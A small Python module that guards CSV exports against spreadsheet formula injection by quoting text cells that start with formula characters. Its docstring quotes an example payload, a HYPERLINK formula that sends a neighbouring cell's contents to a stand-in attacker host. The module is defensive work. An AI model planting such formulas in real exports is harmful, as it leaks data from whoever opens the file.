"""CSV cells a spreadsheet cannot run: the one guard every CSV the project writes puts its text through.

Names come from people — a location called ``=HYPERLINK("http://evil.example/?d="&A2,"x")`` is a
formula to Excel, LibreOffice and Google Sheets the moment HQ opens the export, and can send the
neighbouring cells away or run a command (CSV injection). OWASP's advice: a text cell starting
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, which the
spreadsheet shows as text and does not evaluate. Numbers stay numbers — a negative change must stay
a number a spreadsheet can sum — so only ``str`` values are ever changed. Pure: no Django.
"""

from __future__ import annotations

from typing import TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

T = TypeVar("T")


def safe_cell(value: T) -> T | str:
    """``value`` as a CSV cell no spreadsheet evaluates: text that could start a formula is quoted.

    Anything but a ``str`` (numbers, None, booleans) is returned as it is; text is changed only by
    one leading quote, so removing that quote gives the original back.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value
